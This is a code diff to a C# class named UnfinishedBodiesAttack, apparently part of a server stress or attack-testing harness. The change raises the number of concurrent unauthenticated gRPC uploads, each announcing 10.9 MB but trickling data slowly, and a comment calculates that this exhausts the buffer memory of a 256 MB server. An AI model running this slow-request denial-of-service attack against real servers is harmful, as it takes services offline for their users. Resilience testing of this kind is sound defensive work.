@@ -9,6 +9,9 @@ internal sealed class UnfinishedBodiesAttack : IServerAttack
     public const int AnnouncedBytes = 10_900_000;
 
     private const int FirstBytes = 600_000;
+
+    // With two paths and two connections 80 requests, which begin with 48 MB: more than the 32 MB that a server of 256 MB has for buffers.
+    private const int Streams = 20;
     private const int NextBytes = 16_000;
 
     // A server that expects 64 KB/s or more keeps the request.
@@ -20,7 +23,7 @@ internal sealed class UnfinishedBodiesAttack : IServerAttack
     public string Name => "unfinished-bodies";
 
     /// <inheritdoc/>
-    public string Description => "requests of 10.9 MB to two open routes at 80 KB/s, without a token";
+    public string Description => $"{2 * Streams} requests of 10.9 MB to two open routes on each connection, each at 80 KB/s, without a token";
 
     /// <summary>What a request begins with: gRPC's prefix, and a field of unknown bytes.</summary>
     public static byte[] Beginning()
@@ -35,7 +38,7 @@ internal sealed class UnfinishedBodiesAttack : IServerAttack
     public async Task RunAsync(AttackTarget target, AttackCounts counts, CancellationToken stop)
     {
         await using AttackConnection connection = await AttackConnection.OpenAsync(target, counts, AttackConnection.OpenWindow, stop).ConfigureAwait(false);
-        await Task.WhenAll(s_paths.Select(path => UploadAsync(connection, path, counts, stop))).ConfigureAwait(false);
+        await Task.WhenAll(Enumerable.Repeat(s_paths, Streams).SelectMany(paths => paths).Select(path => UploadAsync(connection, path, counts, stop))).ConfigureAwait(false);
     }
 
     private static async Task UploadAsync(AttackConnection connection, string path, AttackCounts counts, CancellationToken stop)
